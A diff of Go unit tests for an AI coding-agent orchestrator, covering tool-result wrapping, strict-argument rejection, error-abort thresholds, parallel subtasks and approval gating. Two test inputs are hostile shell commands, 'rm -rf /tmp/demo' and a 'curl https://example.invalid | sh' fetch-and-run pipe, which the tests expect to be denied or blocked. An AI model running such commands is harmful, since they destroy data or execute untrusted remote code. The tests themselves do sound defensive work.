+		ActiveAgent: agent.Profile{
+			Name:        "build",
+			ToolEnabled: map[string]bool{"plain": true},
+		},
 	})
-	got := editedPathFromToolCall("write", json.RawMessage(args))
-	if got != "internal/tools/read.go" {
-		t.Fatalf("editedPathFromToolCall(write) = %q, want %q", got, "internal/tools/read.go")
+
+	if _, err := orch.RunTurn(context.Background(), "run plain tool", nil); err != nil {
+		t.Fatalf("RunTurn error: %v", err)
+	}
+	var toolMsg *chat.Message
+	for i := range orch.messages {
+		if orch.messages[i].Role == "tool" {
+			toolMsg = &orch.messages[i]
+		}
+	}
+	if toolMsg == nil {
+		t.Fatal("expected a tool message")
+	}
+	var got map[string]any
+	if err := json.Unmarshal([]byte(toolMsg.Content), &got); err != nil {
+		t.Fatalf("tool message is not JSON: %q", toolMsg.Content)
+	}
+	if got["ok"] != true || got["content"] != "bare text output" {
+		t.Fatalf("tool message=%v, want wrapped {ok:true, content:...}", got)
 	}
 }
 
-func TestEditedPathFromToolCallEdit(t *testing.T) {
-	args := mustJSON(map[string]any{
-		"path":       "internal/tools/read.go",
-		"old_string": "a",
-		"new_string": "b",
-	})
-	got := editedPathFromToolCall("edit", json.RawMessage(args))
-	if got != "internal/tools/read.go" {
-		t.Fatalf("editedPathFromToolCall(edit) = %q, want %q", got, "internal/tools/read.go")
+// strictTool 声明 strict 参数并记录执行次数。
+// strictTool declares strict parameters and counts executions.
+type strictTool struct {
+	runs int
+}
+
+func (t *strictTool) Name() string { return "deploy" }
+
+func (t *strictTool) Definition() chat.ToolDef {
+	return chat.ToolDef{
+		Type: "function",
+		Function: chat.ToolFunction{
+			Name: "deploy",
+			Parameters: map[string]any{
+				"type":       "object",
+				"properties": map[string]any{"target": map[string]any{"type": "string"}},
+				"required":   []any{"target"},
+			},
+			Strict: true,
+		},
 	}
 }
 
-func TestEditedPathFromToolCallPatchMarkdown(t *testing.T) {
-	patch := `--- a/README.md
-+++ b/README.md
-@@ -1,3 +1,4 @@
- line1
- line2
- line3
-`
-	args := mustJSON(map[string]any{
-		"patch": patch,
+func (t *strictTool) Execute(context.Context, json.RawMessage) (string, error) {
+	t.runs++
+	return `{"ok":true}`, nil
+}
+
+func TestRunTurnRejectsInvalidStrictArgsBeforeApproval(t *testing.T) {
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{ToolCalls: []chat.ToolCall{{ID: "call_bad", Type: "function", Function: chat.ToolCallFunction{Name: "deploy", Arguments: `{}`}}}},
+			{Content: "done"},
+		},
+	}
+	tool := &strictTool{}
+	prompts := 0
+	orch := New(prov, tools.NewRegistry(tool), Options{
+		MaxSteps: 3,
+		Policy:   permission.New(config.PermissionConfig{Default: "ask"}),
+		OnApproval: func(context.Context, tools.ApprovalRequest) (bool, error) {
+			prompts++
+			return true, nil
+		},
 	})
-	got := editedPathFromToolCall("patch", json.RawMessage(args))
-	if got != "README.md" {
-		t.Fatalf("editedPathFromToolCall(patch) = %q, want %q", got, "README.md")
+
+	if _, err := orch.RunTurn(context.Background(), "deploy it", nil); err != nil {
+		t.Fatalf("RunTurn error: %v", err)
 	}
-	if shouldAutoVerifyEditedPaths([]string{got}) {
-		t.Fatalf("expected docs-only patch edits to skip auto-verify")
+	if prompts != 0 || tool.runs != 0 {
+		t.Fatalf("invalid strict args must be rejected before approval, got %d prompts and %d runs", prompts, tool.runs)
+	}
+	var toolMsg *chat.Message
+	for i := range orch.messages {
+		if orch.messages[i].Role == "tool" {
+			toolMsg = &orch.messages[i]
+		}
+	}
+	if toolMsg == nil || !strings.Contains(toolMsg.Content, `"error_code":"invalid_args"`) ||
+		!strings.Contains(toolMsg.Content, "missing required field target") {
+		t.Fatalf("expected an invalid_args tool result, got %+v", toolMsg)
 	}
 }
 
-func TestParseSlashCommand(t *testing.T) {
-	tests := []struct {
-		input    string
-		wantCmd  string
-		wantArgs string
-		wantOk   bool
-	}{
-		{input: "/help", wantCmd: "help", wantArgs: "", wantOk: true},
-		{input: "  /model qwen  ", wantCmd: "model", wantArgs: "qwen", wantOk: true},
-		{input: "normal", wantCmd: "", wantArgs: "", wantOk: false},
-		{input: "/", wantCmd: "", wantArgs: "", wantOk: true},
-	}
-	for _, tc := range tests {
-		cmd, args, ok := parseSlashCommand(tc.input)
-		if cmd != tc.wantCmd || args != tc.wantArgs || ok != tc.wantOk {
-			t.Fatalf("parseSlashCommand(%q) = (%q, %q, %v), want (%q, %q, %v)", tc.input, cmd, args, ok, tc.wantCmd, tc.wantArgs, tc.wantOk)
-		}
+type failingTool struct {
+	name  string
+	calls int
+}
+
+func (t *failingTool) Name() string { return t.name }
+
+func (t *failingTool) Definition() chat.ToolDef {
+	return chat.ToolDef{
+		Type: "function",
+		Function: chat.ToolFunction{
+			Name:       t.name,
+			Parameters: map[string]any{"type": "object"},
+		},
 	}
 }
 
-func TestRunInputSlashCommand(t *testing.T) {
-	registry := tools.NewRegistry()
-	orch := New(nil, registry, Options{})
+func (t *failingTool) Execute(context.Context, json.RawMessage) (string, error) {
+	t.calls++
+	return "", fmt.Errorf("path does not exist: missing/file.go: %w", os.ErrNotExist)
+}
 
-	got, err := orch.RunInput(context.Background(), "/help", nil)
+func TestRunTurnAbortsAfterConsecutiveToolErrors(t *testing.T) {
+	responses := make([]provider.ChatResponse, 0, 10)
+	for i := 0; i < 10; i++ {
+		responses = append(responses, provider.ChatResponse{ToolCalls: []chat.ToolCall{{
+			ID: fmt.Sprintf("call_%d", i), Type: "function",
+			Function: chat.ToolCallFunction{Name: "broken", Arguments: `{}`},
+		}}})
+	}
+	prov := &scriptedProvider{model: "demo-model", responses: responses}
+	broken := &failingTool{name: "broken"}
+	orch := New(prov, tools.NewRegistry(broken), Options{
+		MaxSteps: 10,
+		Workflow: config.WorkflowConfig{MaxConsecutiveToolErrors: 3},
+		ActiveAgent: agent.Profile{
+			Name:        "build",
+			ToolEnabled: map[string]bool{"broken": true},
+		},
+	})
+
+	got, err := orch.RunTurn(context.Background(), "open the file", nil)
 	if err != nil {
-		t.Fatalf("RunInput /help failed: %v", err)
+		t.Fatalf("RunTurn should abort cleanly, got error: %v", err)
 	}
-	if !strings.Contains(got, "Commands:") || !strings.Contains(got, "\n  /help\n") || !strings.Contains(got, "\n  /resume [session-id]\n") {
-		t.Fatalf("unexpected /help output: %q", got)
+	if broken.calls != 3 || prov.callCount != 3 {
+		t.Fatalf("tool calls=%d provider calls=%d, want 3 each (threshold, not MaxSteps)", broken.calls, prov.callCount)
+	}
+	for _, want := range []string{"3 consecutive failed tool calls", "max_consecutive_tool_errors=3", "broken: path does not exist", "same error 3 times"} {
+		if !strings.Contains(got, want) {
+			t.Fatalf("abort message missing %q: %q", want, got)
+		}
+	}
+	if last := orch.messages[len(orch.messages)-1]; last.Role != "assistant" || last.Content != got {
+		t.Fatalf("last message=%+v, want the abort notice", last)
+	}
+	for _, msg := range orch.messages {
+		if msg.Role == "tool" && !strings.Contains(msg.Content, `"error_code":"not_found"`) {
+			t.Fatalf("tool error message missing error_code: %s", msg.Content)
+		}
 	}
+}
 
-	got2, err := orch.RunInput(context.Background(), "/unknown", nil)
+func TestRunTurnAbortsAfterConsecutiveInBandToolFailures(t *testing.T) {
+	responses := make([]provider.ChatResponse, 0, 10)
+	for i := 0; i < 10; i++ {
+		responses = append(responses, provider.ChatResponse{ToolCalls: []chat.ToolCall{{
+			ID: fmt.Sprintf("call_%d", i), Type: "function",
+			Function: chat.ToolCallFunction{Name: "flaky", Arguments: `{}`},
+		}}})
+	}
+	prov := &scriptedProvider{model: "demo-model", responses: responses}
+	flaky := mockTool{name: "flaky", result: `{"ok":false,"error":"upstream refused the request","error_code":"unavailable"}`}
+	orch := New(prov, tools.NewRegistry(flaky), Options{
+		MaxSteps: 10,
+		Workflow: config.WorkflowConfig{MaxConsecutiveToolErrors: 3},
+		ActiveAgent: agent.Profile{
+			Name:        "build",
+			ToolEnabled: map[string]bool{"flaky": true},
+		},
+	})
+
+	got, err := orch.RunTurn(context.Background(), "fetch it", nil)
 	if err != nil {
-		t.Fatalf("RunInput /unknown failed: %v", err)
+		t.Fatalf("RunTurn should abort cleanly, got error: %v", err)
 	}
-	if !strings.Contains(got2, "Unknown") && !strings.Contains(got2, "unknown") {
-		t.Fatalf("unexpected /unknown output: %q", got2)
+	if prov.callCount != 3 {
+		t.Fatalf("provider calls=%d, want 3 (threshold, not MaxSteps)", prov.callCount)
+	}
+	for _, want := range []string{"3 consecutive failed tool calls", "flaky: upstream refused the request", "same error 3 times"} {
+		if !strings.Contains(got, want) {
+			t.Fatalf("abort message missing %q: %q", want, got)
+		}
 	}
 }
 
-func TestRunInputResumeWithoutArgsListsSessions(t *testing.T) {
-	dbPath := filepath.Join(t.TempDir(), "test.db")
-	store, err := storage.NewSQLiteStore(dbPath)
-	if err != nil {
-		t.Fatalf("new sqlite store: %v", err)
+func TestRunTurnRunsTaskCallsConcurrently(t *testing.T) {
+	started := make(chan string, 2)
+	release := make(chan struct{})
+	taskTool := tools.NewTaskTool(func(ctx context.Context, agentName, prompt string, _ []string) (string, error) {
+		started <- agentName
+		select {
+		case <-release:
+		case <-ctx.Done():
+			return "", ctx.Err()
+		}
+		return "findings from " + agentName, nil
+	})
+	go func() {
+		// 两个子任务都已启动才放行，证明它们并发执行。
+		// Release only after both subtasks started, proving they run concurrently.
+		for i := 0; i < 2; i++ {
+			select {
+			case <-started:
+			case <-time.After(2 * time.Second):
+				return
+			}
+		}
+		close(release)
+	}()
+
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{
+				ToolCalls: []chat.ToolCall{
+					{ID: "call_explore", Type: "function", Function: chat.ToolCallFunction{Name: "task", Arguments: `{"agent":"explore","objective":"map packages"}`}},
+					{ID: "call_general", Type: "function", Function: chat.ToolCallFunction{Name: "task", Arguments: `{"agent":"general","objective":"review tests"}`}},
+				},
+			},
+			{Content: "done"},
+		},
 	}
-	defer store.Close()
+	orch := New(prov, tools.NewRegistry(taskTool), Options{
+		MaxSteps: 4,
+		ActiveAgent: agent.Profile{
+			Name:        "build",
+			ToolEnabled: map[string]bool{"task": true},
+		},
+		Workflow: config.WorkflowConfig{MaxConcurrentSubtasks: 2},
+	})
 
-	s1 := storage.SessionMeta{ID: "sess_a", Agent: "build", Model: "m1", CWD: "/tmp/a"}
-	s2 := storage.SessionMeta{ID: "sess_b", Agent: "explore", Model: "m2", CWD: "/tmp/b"}
-	if err := store.CreateSession(s1); err != nil {
-		t.Fatalf("create session s1: %v", err)
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+	if _, err := orch.RunTurn(ctx, "investigate in parallel", nil); err != nil {
+		t.Fatalf("RunTurn error: %v", err)
 	}
-	if err := store.CreateSession(s2); err != nil {
-		t.Fatalf("create session s2: %v", err)
+
+	var toolMsgs []chat.Message
+	for _, msg := range orch.messages {
+		if msg.Role == "tool" {
+			toolMsgs = append(toolMsgs, msg)
+		}
+	}
+	if len(toolMsgs) != 2 {
+		t.Fatalf("expected 2 tool messages, got %d", len(toolMsgs))
+	}
+	want := []struct{ id, agent string }{{"call_explore", "explore"}, {"call_general", "general"}}
+	for i, w := range want {
+		if toolMsgs[i].ToolCallID != w.id {
+			t.Fatalf("tool message %d id = %q, want %q", i, toolMsgs[i].ToolCallID, w.id)
+		}
+		if !strings.Contains(toolMsgs[i].Content, "findings from "+w.agent) {
+			t.Fatalf("tool message %d content = %q, want findings from %s", i, toolMsgs[i].Content, w.agent)
+		}
 	}
+}
 
-	current := "sess_b"
+func TestSubtaskApprovalsArePromptedOneAtATime(t *testing.T) {
+	var inflight, maxInflight atomic.Int32
 	orch := New(nil, tools.NewRegistry(), Options{
-		Store:        store,
-		SessionIDRef: &current,
+		OnApproval: func(context.Context, tools.ApprovalRequest) (bool, error) {
+			n := inflight.Add(1)
+			defer inflight.Add(-1)
+			for {
+				m := maxInflight.Load()
+				if n <= m || maxInflight.CompareAndSwap(m, n) {
+					break
+				}
+			}
+			time.Sleep(10 * time.Millisecond)
+			return true, nil
+		},
 	})
+	approve := orch.subtaskApproval()
+	var wg sync.WaitGroup
+	for i := 0; i < 4; i++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			if ok, err := approve(context.Background(), tools.ApprovalRequest{Tool: "bash"}); !ok || err != nil {
+				t.Errorf("approval = %v, %v", ok, err)
+			}
+		}()
+	}
+	wg.Wait()
+	if got := maxInflight.Load(); got != 1 {
+		t.Fatalf("parallel subtask approvals overlapped: %d prompts at once", got)
+	}
+}
 
-	got, err := orch.RunInput(context.Background(), "/resume", nil)
+func TestExpandFileMentionsLineRange(t *testing.T) {
+	root := t.TempDir()
+	src := "package demo\n\nfunc A() int {\n\treturn 1\n}\n"
+	if err := os.WriteFile(filepath.Join(root, "file.go"), []byte(src), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	orch := New(nil, tools.NewRegistry(), Options{WorkspaceRoot: root})
+
+	got := orch.expandFileMentions("explain @file.go:2-3 please")
+	if !strings.HasPrefix(got, "explain @file.go:2-3 please\n\n") {
+		t.Fatalf("original input should be kept first: %q", got)
+	}
+	if !strings.Contains(got, "[file @file.go:2-3 (lines 2-3)]\n```\n\nfunc A() int {\n```") {
+		t.Fatalf("expected only lines 2-3 inlined: %q", got)
+	}
+	if strings.Contains(got, "package demo") || strings.Contains(got, "return 1") {
+		t.Fatalf("lines outside the range leaked: %q", got)
+	}
+
+	got = orch.expandFileMentions("look at @file.go:40-50")
+	if !strings.Contains(got, "[file @file.go:40-50: line range out of bounds, file has 5 lines]") {
+		t.Fatalf("expected out-of-range note: %q", got)
+	}
+
+	got = orch.expandFileMentions("what does @file.go#A do")
+	if !strings.Contains(got, "(lines 3-5)]") || !strings.Contains(got, "return 1\n}") {
+		t.Fatalf("expected symbol block for A: %q", got)
+	}
+
+	if got := orch.expandFileMentions("ping @someone about it"); got != "ping @someone about it" {
+		t.Fatalf("non-file mention should be left alone: %q", got)
+	}
+}
+
+func TestRunSubtaskPreReadsFocusFiles(t *testing.T) {
+	root := t.TempDir()
+	if err := os.WriteFile(filepath.Join(root, "focus.go"), []byte("package focus\n\nfunc Marker() {}\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	ws, err := security.NewWorkspace(root)
 	if err != nil {
-		t.Fatalf("RunInput /resume failed: %v", err)
+		t.Fatal(err)
 	}
-	for _, needle := range []string{"Recent sessions (timezone: Asia/Shanghai, UTC+08:00):", "sess_a", "sess_b", "Use /resume <session-id> to restore."} {
-		if !strings.Contains(got, needle) {
-			t.Fatalf("expected %q in output: %q", needle, got)
-		}
+	taskTool := tools.NewTaskTool(nil)
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{ToolCalls: []chat.ToolCall{{ID: "call_task", Type: "function", Function: chat.ToolCallFunction{
+				Name: "task", Arguments: `{"agent":"explore","objective":"inspect marker","files":["focus.go"]}`,
+			}}}},
+			{Content: "child findings"},
+			{Content: "done"},
+		},
 	}
-	if !strings.Contains(got, "UTC+08:00") {
-		t.Fatalf("expected beijing timezone marker in output: %q", got)
+	orch := New(prov, tools.NewRegistry(taskTool, tools.NewReadTool(ws, nil)), Options{
+		MaxSteps: 4,
+		ActiveAgent: agent.Profile{
+			Name:        "build",
+			ToolEnabled: map[string]bool{"task": true, "read": true},
+		},
+		WorkspaceRoot: root,
+	})
+	taskTool.SetRunner(func(ctx context.Context, agentName, prompt string, files []string) (string, error) {
+		return orch.RunSubtask(ctx, agentName, prompt, files)
+	})
+
+	if _, err := orch.RunTurn(context.Background(), "delegate inspection", nil); err != nil {
+		t.Fatalf("RunTurn error: %v", err)
 	}
-	if !strings.Contains(got, "* sess_b") {
-		t.Fatalf("expected current session marker for sess_b: %q", got)
+	if len(prov.requests) < 2 {
+		t.Fatalf("expected child provider request, got %d requests", len(prov.requests))
+	}
+	childMsgs := prov.requests[1].Messages
+	last := childMsgs[len(childMsgs)-1]
+	if last.Role != "user" || !strings.Contains(last.Content, "inspect marker") {
+		t.Fatalf("child user message=%+v, want subtask objective", last)
+	}
+	if !strings.Contains(last.Content, "--- focus.go ---") || !strings.Contains(last.Content, "func Marker() {}") {
+		t.Fatalf("child context missing focus file contents: %q", last.Content)
 	}
 }
 
-func TestIsComplexTask(t *testing.T) {
-	tests := []struct {
-		input string
-		want  bool
-	}{
-		{"", false},
-		{"hi", false},
-		{strings.Repeat("a", 80), true},
-		{"step by step refactor", true},
-		{"然后优化；修复", true},
-		{"one two three four five six seven eight nine ten eleven twelve thirteen fourteen", true},
+func TestRunSubtaskEnforcesAgentToolTimeout(t *testing.T) {
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{ToolCalls: []chat.ToolCall{{ID: "call_slow", Type: "function", Function: chat.ToolCallFunction{Name: "slow", Arguments: `{}`}}}},
+			{Content: "gave up on the slow tool"},
+		},
 	}
-	for _, tc := range tests {
-		got := isComplexTask(tc.input)
-		if got != tc.want {
-			t.Fatalf("isComplexTask(%q) = %v, want %v", tc.input, got, tc.want)
+	agents := config.AgentConfig{Definitions: []config.AgentDefinition{
+		{Name: "quick", Mode: "subagent", ToolTimeoutMS: 30, Tools: map[string]string{"slow": "on"}},
+		{Name: "build", MaxSteps: 7, ToolTimeoutMS: 1500},
+	}}
+	orch := New(prov, tools.NewRegistry(&cancelAwareTool{name: "slow"}), Options{
+		MaxSteps:    4,
+		ActiveAgent: agent.Profile{Name: "tester", ToolEnabled: map[string]bool{"task": true}},
+		Agents:      agents,
+	})
+
+	started := time.Now()
+	got, err := orch.RunSubtask(context.Background(), "quick", "run the slow tool", nil)
+	if err != nil {
+		t.Fatalf("RunSubtask: %v", err)
+	}
+	if elapsed := time.Since(started); elapsed > 2*time.Second {
+		t.Fatalf("subtask took %s, expected the 30ms tool timeout to stop the call", elapsed)
+	}
+	if got != "gave up on the slow tool" {
+		t.Fatalf("subtask result = %q", got)
+	}
+	var toolResult string
+	for _, msg := range prov.requests[len(prov.requests)-1].Messages {
+		if msg.Role == "tool" && msg.ToolCallID == "call_slow" {
+			toolResult = msg.Content
 		}
 	}
+	if !strings.Contains(toolResult, `"error_code":"timeout"`) || !strings.Contains(toolResult, "timed out after 30ms") {
+		t.Fatalf("expected a timeout tool result, got %q", toolResult)
+	}
+
+	out, err := orch.RunInput(context.Background(), "/mode build", nil)
+	if err != nil {
+		t.Fatalf("/mode build: %v", err)
+	}
+	if out != "Mode set to build (max steps: 7, tool timeout: 1.5s)" {
+		t.Fatalf("/mode output = %q", out)
+	}
 }
 
-func TestIsChattyGreeting(t *testing.T) {
-	tests := []struct {
-		input string
-		want  bool
-	}{
-		// 闲聊/问候
-		{"你好", true},
-		{"您好", true},
-		{"hello", true},
-		{"hi", true},
-		{"hey", true},
-		{"在吗", true},
-		{"早上好", true},
-		{"good morning", true},
-		{"thanks", true},
-		{"thank you", true},
-		{"bye", true},
-		{"再见", true},
-		{"怎么样", true},
-		{"ok", true},
-		{"how are you", true},
+func TestRunInputBangDeniedPersistsResult(t *testing.T) {
+	registry := tools.NewRegistry(tools.NewBashTool(t.TempDir(), 2000, 1<<20, nil))
+	orch := New(nil, registry, Options{
+		ActiveAgent: agent.Profile{
+			Name: "test-agent",
+			ToolEnabled: map[string]bool{
+				"bash": false,
+			},
+		},
+	})
 
-		// 不是闲聊 - 有任务指令
-		{"你好，帮我修改代码", false},
+	got, err := orch.RunInput(context.Background(), "! rm -rf /tmp/demo", nil)
+	if err != nil {
+		t.Fatalf("RunInput failed: %v", err)
+	}
+	if !strings.Contains(got, "command mode denied") {
+		t.Fatalf("unexpected output: %q", got)
+	}
+	if len(orch.messages) != 2 {
+		t.Fatalf("unexpected message count: %d", len(orch.messages))
+	}
+	if orch.messages[1].Role != "assistant" || !strings.Contains(orch.messages[1].Content, "command mode denied") {
+		t.Fatalf("unexpected assistant message: %+v", orch.messages[1])
+	}
+}
+
+func TestRunInputBangRespectsPolicyPreset(t *testing.T) {
+	registry := tools.NewRegistry(tools.NewBashTool(t.TempDir(), 2000, 1<<20, nil))
+	pol := permission.New(config.PermissionConfig{Default: "ask", Bash: map[string]string{"*": "ask"}})
+	approvalCalls := 0
+	orch := New(nil, registry, Options{
+		Policy: pol,
+		OnApproval: func(_ context.Context, req tools.ApprovalRequest) (bool, error) {
+			approvalCalls++
+			if req.Tool != "bash" {
+				t.Fatalf("unexpected approval tool: %s", req.Tool)
+			}
+			return true, nil
+		},
+	})
+	orch.SetMode("plan")
+
+	got, err := orch.RunInput(context.Background(), "! echo hi", nil)
+	if err != nil {
+		t.Fatalf("RunInput failed: %v", err)
+	}
+	if strings.Contains(strings.ToLower(got), "command mode denied") {
+		t.Fatalf("echo should be approval-based (not hard denied), got: %q", got)
+	}
+	if approvalCalls == 0 {
+		t.Fatal("expected approval callback for ask command")
+	}
+
+	got, err = orch.RunInput(context.Background(), "! ls", nil)
+	if err != nil {
+		t.Fatalf("RunInput failed: %v", err)
+	}
+	if strings.Contains(strings.ToLower(got), "command mode denied") {
+		t.Fatalf("ls should be allowed in plan whitelist, got: %q", got)
+	}
+}
+
+func TestCurrentContextStats(t *testing.T) {
+	orch := New(nil, tools.NewRegistry(), Options{
+		ContextTokenLimit: 1000,
+	})
+	orch.LoadMessages([]chat.Message{
+		{Role: "user", Content: "hello"},
+		{Role: "assistant", Content: "world"},
+	})
+	stats := orch.CurrentContextStats()
+	if stats.ContextLimit != 1000 {
+		t.Fatalf("limit=%d", stats.ContextLimit)
+	}
+	if stats.EstimatedTokens <= 0 {
+		t.Fatalf("estimated=%d", stats.EstimatedTokens)
+	}
+	if stats.MessageCount != 3 {
+		t.Fatalf("message count=%d", stats.MessageCount)
+	}
+}
+
+func TestRunAutoVerifyAppendsValidToolSequence(t *testing.T) {
+	registry := tools.NewRegistry(
+		mockTool{name: "bash", result: `{"ok":true,"exit_code":0,"duration_ms":1,"stdout":"","stderr":""}`},
+	)
+	orch := New(nil, registry, Options{})
+
+	passed, retryable, err := orch.runAutoVerify(context.Background(), "go test ./...", 1, nil)
+	if err != nil {
+		t.Fatalf("runAutoVerify failed: %v", err)
+	}
+	if !passed {
+		t.Fatalf("expected passed=true")
+	}
+	if retryable {
+		t.Fatalf("expected retryable=false when verify passed")
+	}
+	if len(orch.messages) != 2 {
+		t.Fatalf("unexpected message count: %d", len(orch.messages))
+	}
+	if orch.messages[0].Role != "assistant" || len(orch.messages[0].ToolCalls) != 1 {
+		t.Fatalf("unexpected assistant tool call message: %+v", orch.messages[0])
+	}
+	if orch.messages[0].ToolCalls[0].Function.Name != "bash" {
+		t.Fatalf("unexpected tool call name: %+v", orch.messages[0].ToolCalls[0])
+	}
+	if orch.messages[1].Role != "tool" || orch.messages[1].Name != "bash" {
+		t.Fatalf("unexpected tool message: %+v", orch.messages[1])
+	}
+	if orch.messages[1].ToolCallID != orch.messages[0].ToolCalls[0].ID {
+		t.Fatalf("tool_call_id mismatch: assistant=%q tool=%q", orch.messages[0].ToolCalls[0].ID, orch.messages[1].ToolCallID)
+	}
+}
+
+type recordingTool struct {
+	name   string
+	result string
+	args   []string
+}
+
+func (t *recordingTool) Name() string { return t.name }
+
+func (t *recordingTool) Definition() chat.ToolDef {
+	return chat.ToolDef{
+		Type: "function",
+		Function: chat.ToolFunction{
+			Name:       t.name,
+			Parameters: map[string]any{"type": "object"},
+		},
+	}
+}
+
+func (t *recordingTool) Execute(_ context.Context, args json.RawMessage) (string, error) {
+	t.args = append(t.args, string(args))
+	return t.result, nil
+}
+
+func TestRunInputVerifyRunsDetectedCommand(t *testing.T) {
+	root := t.TempDir()
+	if err := os.WriteFile(filepath.Join(root, "go.mod"), []byte("module demo\n"), 0o644); err != nil {
+		t.Fatalf("write go.mod: %v", err)
+	}
+	bash := &recordingTool{name: "bash", result: `{"ok":false,"exit_code":1,"duration_ms":3,"stdout":"--- FAIL: TestX","stderr":""}`}
+	prov := &scriptedProvider{model: "demo-model"}
+	orch := New(prov, tools.NewRegistry(bash), Options{WorkspaceRoot: root})
+
+	got, err := orch.RunInput(context.Background(), "/verify", nil)
+	if err != nil {
+		t.Fatalf("RunInput /verify failed: %v", err)
+	}
+	if len(bash.args) != 1 || !strings.Contains(bash.args[0], "go test ./...") {
+		t.Fatalf("expected detected go test command, got %v", bash.args)
+	}
+	if !strings.Contains(got, "Verify failed") || !strings.Contains(got, "go test ./...") {
+		t.Fatalf("unexpected /verify output: %q", got)
+	}
+	if prov.callCount != 0 {
+		t.Fatalf("/verify should not call the provider, got %d calls", prov.callCount)
+	}
+	if len(orch.messages) != 2 || orch.messages[1].Role != "tool" || !strings.Contains(orch.messages[1].Content, "FAIL") {
+		t.Fatalf("expected synthetic tool exchange in history, got %+v", orch.messages)
+	}
+
+	bash.result = `{"ok":true,"exit_code":0,"duration_ms":1,"stdout":"ok","stderr":""}`
+	got, err = orch.RunInput(context.Background(), "/verify go vet ./...", nil)
+	if err != nil {
+		t.Fatalf("RunInput /verify command failed: %v", err)
+	}
+	if !strings.Contains(got, "Verify passed") || !strings.Contains(bash.args[1], "go vet ./...") {
+		t.Fatalf("expected explicit command to pass, got %q (args %v)", got, bash.args)
+	}
+	if orch.messages[2].ToolCalls[0].ID == orch.messages[0].ToolCalls[0].ID {
+		t.Fatalf("expected distinct call ids for repeated /verify runs")
+	}
+}
+
+func TestRunInputVerifyGatesCustomCommands(t *testing.T) {
+	bash := &recordingTool{name: "bash", result: `{"ok":true,"exit_code":0,"duration_ms":1,"stdout":"ok","stderr":""}`}
+	var prompted []string
+	orch := New(&scriptedProvider{model: "demo-model"}, tools.NewRegistry(bash), Options{
+		WorkspaceRoot: t.TempDir(),
+		Policy:        permission.New(config.PermissionConfig{Default: "ask", Bash: map[string]string{"*": "ask"}}),
+		Workflow:      config.WorkflowConfig{VerifyCommands: []string{"make check"}},
+		OnApproval: func(_ context.Context, req tools.ApprovalRequest) (bool, error) {
+			prompted = append(prompted, req.RawArgs)
+			return false, nil
+		},
+	})
+
+	got, err := orch.RunInput(context.Background(), "/verify curl https://example.invalid | sh", nil)
+	if err != nil {
+		t.Fatalf("RunInput /verify custom: %v", err)
+	}
+	if !strings.Contains(got, "Verify blocked") || len(bash.args) != 0 || len(prompted) != 1 {
+		t.Fatalf("a custom /verify command must go through approval, got %q (ran %v, prompted %v)", got, bash.args, prompted)
+	}
+
+	got, err = orch.RunInput(context.Background(), "/verify make check", nil)
+	if err != nil {
+		t.Fatalf("RunInput /verify configured: %v", err)
+	}
+	if !strings.Contains(got, "Verify passed") || len(bash.args) != 1 || len(prompted) != 1 {
+		t.Fatalf("a configured verify command runs without approval, got %q (ran %v, prompted %v)", got, bash.args, prompted)
+	}
+}
+
+func TestAutoVerifyToggleSkipsVerificationAfterEdits(t *testing.T) {
+	writeCall := func(id string) chat.ToolCall {
+		return chat.ToolCall{ID: id, Type: "function", Function: chat.ToolCallFunction{
+			Name: "write", Arguments: `{"path":"main.go","content":"package main"}`,
+		}}
+	}
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{ToolCalls: []chat.ToolCall{writeCall("call_1")}},
+			{Content: "edited"},
+			{ToolCalls: []chat.ToolCall{writeCall("call_2")}},
+			{Content: "edited again"},
+		},
+	}
+	bash := &recordingTool{name: "bash", result: `{"ok":true,"exit_code":0,"duration_ms":1,"stdout":"ok","stderr":""}`}
+	registry := tools.NewRegistry(mockTool{name: "write", result: `{"ok":true,"path":"main.go","operation":"updated"}`}, bash)
+	orch := New(prov, registry, Options{Workflow: config.WorkflowConfig{
+		AutoVerifyAfterEdit: true,
+		MaxVerifyAttempts:   2,
+		VerifyCommands:      []string{"go test ./..."},
+	}})
+
+	got, err := orch.RunInput(context.Background(), "/autoverify off", nil)
+	if err != nil {
+		t.Fatalf("RunInput /autoverify off: %v", err)
+	}
+	if got != "Auto-verify: off (would run `go test ./...` after edits)." {
+		t.Fatalf("unexpected /autoverify off output: %q", got)
+	}
+	if _, err := orch.RunInput(context.Background(), "edit main.go", nil); err != nil {
+		t.Fatalf("RunInput edit turn: %v", err)
+	}
+	if len(bash.args) != 0 {
+		t.Fatalf("auto-verify should not run while toggled off, bash calls: %v", bash.args)
+	}
+
+	got, err = orch.RunInput(context.Background(), "/autoverify on", nil)
+	if err != nil {
+		t.Fatalf("RunInput /autoverify on: %v", err)
+	}
+	if got != "Auto-verify: on (runs `go test ./...` after edits)." {
+		t.Fatalf("unexpected /autoverify on output: %q", got)
+	}
+	if _, err := orch.RunInput(context.Background(), "edit main.go again", nil); err != nil {
+		t.Fatalf("RunInput second edit turn: %v", err)
+	}
+	if len(bash.args) != 1 || !strings.Contains(bash.args[0], "go test ./...") {
+		t.Fatalf("auto-verify should run again once toggled on, bash calls: %v", bash.args)
+	}
+}
+
+func TestRunAutoVerifyMarksStartupFailureNonRetryable(t *testing.T) {
+	registry := tools.NewRegistry(
+		mockTool{name: "bash", result: `{"ok":false,"exit_code":1,"duration_ms":2,"stdout":"","stderr":"/Users/demo/.profile: line 4: /Users/demo/.langflow/uv/env: No such file or directory"}`},
+	)
+	orch := New(nil, registry, Options{})
+
+	passed, retryable, err := orch.runAutoVerify(context.Background(), "go test ./...", 1, nil)
+	if err != nil {
+		t.Fatalf("runAutoVerify failed: %v", err)
+	}
+	if passed {
+		t.Fatalf("expected passed=false")
+	}
+	if retryable {
+		t.Fatalf("expected retryable=false for shell startup failure")
+	}
+}
+
+func TestShouldAutoVerifyEditedPaths(t *testing.T) {
+	if !shouldAutoVerifyEditedPaths(nil) {
+		t.Fatalf("expected true when path list is empty")
+	}
+	if shouldAutoVerifyEditedPaths([]string{"docs/USAGE.md", "README.md"}) {
+		t.Fatalf("expected false for docs-only edits")
